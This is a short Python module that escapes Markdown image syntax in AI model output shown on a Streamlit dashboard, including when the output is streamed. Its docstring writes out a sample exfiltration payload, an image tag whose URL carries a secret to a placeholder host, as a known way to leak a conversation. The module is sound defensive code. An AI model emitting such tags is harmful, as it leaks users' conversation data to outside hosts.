"""Model output made safe to show as Markdown.

Streamlit already escapes raw HTML in Markdown (the dashboard never passes ``unsafe_allow_html``).
What Markdown still does on its own is load images: ``![x](https://host/?q=secret)`` makes the
operator's browser fetch an address the model chose, a known way to leak a conversation. Image
syntax is therefore escaped, so it shows as text; links stay, since following one takes a click.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator


def safe_markdown(text: str) -> str:
    """``text`` with Markdown image syntax escaped (``![`` becomes ``!\\[``)."""
    return text.replace("![", "!\\[")


def safe_stream(chunks: Iterable[str]) -> Iterator[str]:
    """:func:`safe_markdown` over a stream of chunks, also when ``!`` and ``[`` arrive in
    different chunks (a trailing ``!`` is held back until the next chunk shows what follows)."""
    pending = ""
    for chunk in chunks:
        text = pending + chunk
        pending = ""
        if text.endswith("!"):
            pending, text = "!", text[:-1]
        if text:
            yield safe_markdown(text)
    if pending:
        yield pending
